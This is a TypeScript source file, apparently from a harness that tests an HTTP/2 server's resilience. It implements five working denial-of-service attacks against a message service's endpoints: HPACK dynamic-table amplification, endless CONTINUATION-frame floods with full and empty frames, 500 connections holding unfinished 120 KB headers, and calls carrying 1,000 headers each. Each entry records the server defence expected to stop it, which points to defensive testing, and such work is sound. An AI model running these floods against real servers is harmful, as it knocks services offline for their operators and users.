import type { Attacker } from '../../attacker/attacker.ts';
import { callHeaders, indexed, kept, literal, newestIndex } from '../../wire/hpack.ts';
import { keepHttp2 } from '../../wire/http2-connection.ts';
import {
  Flag,
  FrameType,
  frame,
  framePayloadBytesMax,
  headersFrame,
} from '../../wire/http2-frame.ts';
import type { Attack } from '../attack.ts';

// With 32 bytes for the entry itself it fills the dynamic table of 4,096 bytes.
const tableEntry = kept('x', 'v'.repeat(3_900));
// 16 references stand for 62 KB. More references would stand for more, if the server took them.
const referencesPerCall = [16, 120, 4_000];
const callsOpenMax = 900;
// HTTP/2 takes up to 64 KB for a name, and as much for a value.
const unendedBytes = 60_000;
const acknowledgedMs = 300;

async function amplify(attacker: Attacker): Promise<void> {
  await keepHttp2(attacker, { times: attacker.share(8) }, async (connection) => {
    await connection.open('/MessageService/Login', tableEntry);
    for (let i = 0; connection.isOpen && !attacker.isOver; i++) {
      const references = referencesPerCall[Math.floor(i / 100) % referencesPerCall.length] ?? 0;
      const block = Buffer.alloc(references, indexed(newestIndex));
      await connection.open('/MessageService/Login', block);
      await connection.callsBelow(callsOpenMax);
    }
  });
}

/** Sends CONTINUATION frames for one call without a last one. */
async function continueForever(
  attacker: Attacker,
  payload: Buffer,
  framesPerWrite: number,
): Promise<void> {
  await keepHttp2(attacker, { times: attacker.share(4) }, async (connection) => {
    const stream = connection.nextStream();
    await connection.write(
      frame(FrameType.headers, Flag.none, stream, callHeaders('/MessageService/Login')),
    );
    const next = frame(FrameType.continuation, Flag.none, stream, payload);
    const batch = Buffer.concat(Array.from({ length: framesPerWrite }, () => next));
    while (connection.isOpen && !attacker.isOver) {
      await connection.write(batch);
      attacker.count('frames', framesPerWrite);
    }
    connection.reset();
  });
}

/** Sends most of two long headers on each connection, and no more. */
async function beginHeaders(attacker: Attacker): Promise<void> {
  const block = Buffer.concat([
    callHeaders('/MessageService/Login'),
    literal('x'.repeat(unendedBytes), 'v'.repeat(unendedBytes)).subarray(0, -1),
  ]);
  await keepHttp2(attacker, { times: attacker.share(500) }, async (connection) => {
    // Nothing may come in between, so the limits of the server are acknowledged before.
    await attacker.pause(acknowledgedMs);
    const stream = connection.nextStream();
    for (let at = 0; at < block.length; at += framePayloadBytesMax) {
      const type = at === 0 ? FrameType.headers : FrameType.continuation;
      const payload = block.subarray(at, at + framePayloadBytesMax);
      await connection.write(frame(type, Flag.none, stream, payload));
    }
    attacker.count('headers');
    await Promise.race([connection.closed, attacker.over]);
  });
}

/** Makes many calls with so many headers each. */
async function manyHeaders(attacker: Attacker): Promise<void> {
  const lines = Array.from({ length: 1_000 }, (_, i) => literal(`h${i}`, ''));
  const block = callHeaders('/MessageService/Search', Buffer.concat(lines));
  await keepHttp2(attacker, { times: attacker.share(4) }, async (connection) => {
    while (connection.isOpen && !attacker.isOver) {
      await connection.write(headersFrame(connection.nextStream(), block, true));
      attacker.count('calls');
    }
    connection.reset();
  });
}

const whileDecoded = 'HTTP/2 bounds the headers of a call while it decodes them';

/** Attacks by headers. */
export const headerFloods: readonly Attack[] = [
  {
    name: 'hpack-amplification',
    family: 'http2',
    does: 'calls whose few bytes refer to one header of 3.9 KB, up to 4,000 times each',
    heldBy: whileDecoded,
    run: amplify,
  },
  {
    name: 'continuation-flood',
    family: 'http2',
    does: 'headers of a call that go on for ever, 16 KB a frame',
    heldBy: whileDecoded,
    run: (attacker) =>
      continueForever(attacker, literal('x', 'v'.repeat(framePayloadBytesMax - 8)), 8),
  },
  {
    name: 'continuation-flood-small',
    family: 'http2',
    does: 'the same in frames of no bytes',
    heldBy: 'HTTP/2 bounds how many frames the headers of a call may take',
    run: (attacker) => continueForever(attacker, Buffer.alloc(0), 500),
  },
  {
    name: 'unended-headers',
    family: 'http2',
    does: '500 connections with 120 KB of headers that do not end, and then nothing',
    heldBy: 'the account of a connection pays for them; a client that answers no PING is cut',
    processes: 2,
    run: beginHeaders,
  },
  {
    name: 'header-lines-flood',
    family: 'http2',
    does: 'calls with 1,000 headers each',
    heldBy: whileDecoded,
    run: manyHeaders,
  },
];
